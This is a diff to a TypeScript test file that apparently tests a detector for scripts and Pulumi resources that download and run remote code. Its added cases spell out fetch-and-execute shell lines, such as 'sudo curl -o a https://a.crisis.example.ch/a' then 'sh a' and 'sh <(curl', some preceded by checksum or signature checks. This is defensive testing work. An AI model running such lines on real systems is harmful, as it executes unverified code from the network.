@@ -528,7 +528,10 @@ const command = (props: object, name = "it", type = "command:remote:Command"): G
   name,
   props: { ...props },
 });
-const converge = readFileSync(join(__dirname, "../../../components/recipe/files/converge.sh"), "utf8");
+const script = (name: string): string =>
+  readFileSync(join(__dirname, "../../../components/recipe/files", name), "utf8");
+const converge = script("converge.sh");
+const contact = script("contact.sh");
 const recipe = "package nginx\nend\n";
 const manifest = (kind: string, group = "helm.cattle.io/v1"): string =>
   `apiVersion: ${group}\nkind: ${kind}\nspec: {}\n`;
@@ -577,6 +580,11 @@ export const opaque: readonly Case[] = [
     "package a\nend",
     "",
   ].map((stdin): Case => [`a command with the recipe ${JSON.stringify(stdin)}`, command({ create: converge, stdin })]),
+  ["a command of another script of ours", command({ create: contact })],
+  ["a command of two scripts of ours", command({ create: converge, delete: contact, stdin: recipe })],
+  ["a command of two scripts of ours without a recipe", command({ create: contact, update: converge })],
+  ["a provider with a value that is not known", { type: "pulumi:providers:kubernetes", props: { kubeconfig: open } }],
+  ["a type without a group", { type: "kubernetes:Thing" }],
   ["a release of a chart", kube("helm.sh/v3:Release", { chart: "a" })],
   ["a type that only begins like it", kube("helm.sh/v3:ReleaseSet", {})],
   ["a type that begins like one with a star", { type: "pulumi-nodejs:dynamic/a:B" }],
@@ -625,6 +633,42 @@ export const opaque: readonly Case[] = [
   ["a script of a program that only ends so", text("xcurl https://a.crisis.example.ch/a | sh")],
   ["a script that is fetched and kept", text("curl https://a.crisis.example.ch/a -o a; sh a")],
   ...[
+    ["by root", "sudo curl -o a https://a.crisis.example.ch/a\nsh a"],
+    ["by root with wget", "sudo wget -O a https://a.crisis.example.ch/a\nsh a"],
+    ["by another program", "xcurl -o a https://a.crisis.example.ch/a\nsh a"],
+    ["under a name with the other's letters", "curl -o x./a https://a.crisis.example.ch/a\nsh xa"],
+    ["to standard output", "curl -o - https://a.crisis.example.ch/a\nsh -"],
+    ["and thrown away", "curl -o /dev/null https://a.crisis.example.ch/a\nsh /dev/null"],
+    ["with another's name", "curl -o a https://a.crisis.example.ch/a\nsh b"],
+  ].map(([title, lines]): Case => [`a script that is fetched and kept ${title}`, text(`${lines}\n`)]),
+  ...[
+    "sha1sum -c a.sum",
+    "sha224sum -c a.sum",
+    "sha256sum -c a.sum",
+    "sha384sum -c a.sum",
+    "sha512sum -c a.sum",
+    "b2sum -c a.sum",
+    "sha256sum --check a.sum",
+    "sha256sum --status a.sum",
+    "gpg --verify a.sig",
+    "gpgv a.sig",
+    "cosign verify-blob a",
+    "minisign --verify a",
+    "signify --verify a",
+    "openssl dgst -verify key a",
+    "sha256sum a",
+    "sha128sum -c a.sum",
+    "xsha256sum -c a.sum",
+    "sha256sums -c a.sum",
+    "sha256sum -cx a.sum",
+    "xgpg --verify a.sig",
+    "gpg2 --verify a.sig",
+    "xgpgv a.sig",
+  ].map((compared): Case => [
+    `a script that is fetched and kept, after ${compared}`,
+    text(`curl -o a https://a.crisis.example.ch/a\n${compared}\nsh a\n`),
+  ]),
+  ...[
     "sh <(curl",
     "bash <(curl",
     "dash <(wget",
@@ -633,6 +677,7 @@ export const opaque: readonly Case[] = [
     "source <(curl",
     "sh -c `curl",
     "xsh <(curl",
+    "shx <(curl",
     "cat <(curl",
     "sh <(fetch",
   ].map((words): Case => [`a script by ${words}`, text(`${words} https://a.crisis.example.ch/a)`)]),
@@ -641,6 +686,7 @@ export const opaque: readonly Case[] = [
   ["a script that is included inside a line", text("x #include https://a.crisis.example.ch/a\n")],
   ["a header of a program", text("#include <stdio.h>\n")],
   ["a type of MIME that includes", text("- x-include-url: https://a.crisis.example.ch/a\n")],
+  ["a type of MIME inside a line", text("x x-include-url: https://a.crisis.example.ch/a\n")],
   ["a type of MIME that is like it", text("- x-include-urls: https://a.crisis.example.ch/a\n")],
   ["a comment about a script", text("# curl https://a.crisis.example.ch/a | sh")],
   [
